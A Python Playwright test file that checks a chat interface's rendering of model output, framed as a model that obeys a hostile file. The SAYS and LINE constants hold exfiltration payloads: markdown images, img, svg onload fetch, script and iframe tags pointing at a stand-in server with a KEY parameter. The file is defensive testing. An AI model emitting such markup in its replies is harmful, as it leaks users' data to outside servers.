"""A model that obeys a hostile file: its words, titles, questions and choices hold pictures, HTML and links to a server
elsewhere. That server counts what reaches it."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from functools import partial
from typing import Any

import pytest
from playwright.sync_api import Page, Request

from generator.codec import to_plain
from generator.types import Plan
from tests.browser.conftest import Served, shoot
from tests.browser.listening import Elsewhere, elsewhere
from tests.pages.seeds import TABLE, Made, table

__all__ = ["elsewhere"]
pytestmark = pytest.mark.browser


def heard_of(asked: list[str], request: Request) -> None:
    asked.append(request.url)


Open = Callable[..., Page]
SAYS = """Zqwords ![x](ELSEWHERE/picture?d=KEY) <img src="ELSEWHERE/tag?d=KEY"> <svg onload="fetch('ELSEWHERE/svg')">

![x][far] [click here](ELSEWHERE/link?d=KEY) <ELSEWHERE/auto> <script src="ELSEWHERE/script"></script>

| a | ![x](ELSEWHERE/head) |
|---|---|
| <img src=ELSEWHERE/cell> | ![![x](ELSEWHERE/inner)](ELSEWHERE/outer) |

<iframe src="ELSEWHERE/frame"></iframe> <link rel=stylesheet href="ELSEWHERE/style"> <a href="ELSEWHERE/a">Zqlink</a>

[far]: ELSEWHERE/reference?d=KEY
"""
LINE = '![x](ELSEWHERE/line?d=KEY) <img src="ELSEWHERE/line"> [Zqline](ELSEWHERE/line)'
ELSEWHERE = """address => [...document.querySelectorAll('*')].filter(e => e.tagName !== 'A').flatMap(e =>
    [...e.attributes].filter(a => /^(.*src.*|style|data|poster|.*href|.*action|background|ping)$/.test(a.name) && a.value.includes(address))
    .map(a => e.tagName + ' ' + a.name + '=' + a.value))"""
HIDDEN = """() => [...document.querySelectorAll('a[href^="http"]')]
    .filter(a => new URL(a.href).origin !== location.origin && !a.textContent.includes(new URL(a.href).host))
    .map(a => a.outerHTML)"""


def turns(served: Served, says: str, line: str) -> Iterator[str]:
    """Conversations in which a model's words stand everywhere they can."""
    plan = to_plain(Plan(line, (line, line), (line,)))
    question: dict[str, Any] = {
        "text": line,
        "choices": [{"label": line, "value": "a", "detail": line}],
        "default": "",
        "free_text": True,
    }
    cells = table([(line, "string"), ("Note", "string")], [[line, says], [line, line]])
    outputs = (
        Made(line[:60], TABLE, cells, text=line),
        Made("words.md", "text/markdown", says.encode(), text=says),
        Made("plain.txt", "text/plain", says.encode(), text=says),
    )
    with served.seeds() as seeds:
        conversation = seeds.conversation()
        seeds.result(conversation, "a result", outputs, printed=says, title=line, words=says, plan=plan)
        yield conversation
        conversation = seeds.conversation()
        seeds.turn(conversation, "words alone", words=says)
        error = {"sentence": line, "next_step": line, "tried": [line]}
        seeds.turn(conversation, "a failure", status="failed", error=error)
        yield conversation
        conversation = seeds.conversation()
        seeds.turn(conversation, "a question", status="asking", ended_at=None, question=question, plan=plan)
        yield conversation
        conversation = seeds.conversation()  # last: who looks for lost turns will find it soon
        working = seeds.working(conversation, "at work", line, plan=plan)
        seeds.store.say(working, "note", text=line)
        yield conversation


def test_nothing_that_a_model_says_reaches_another_server(
    open_page: Open, served: Served, elsewhere: Elsewhere
) -> None:
    says, line = (elsewhere.filled(text) for text in (SAYS, LINE))
    page, asked = open_page("/"), list[str]()
    page.on("request", partial(heard_of, asked))
    for number, conversation in enumerate(turns(served, says, line)):
        page.goto(f"{served.address}/?c={conversation}")
        page.get_by_text("Zqline").filter(visible=True).first.wait_for()
        page.wait_for_timeout(1500)
        shoot(page, f"obeying-{number}")
        assert page.evaluate(ELSEWHERE, elsewhere.address) == []
        assert page.evaluate(HIDDEN) == []
        assert [url for url in asked if url.startswith(elsewhere.address)] == []
    assert elsewhere.heard == []
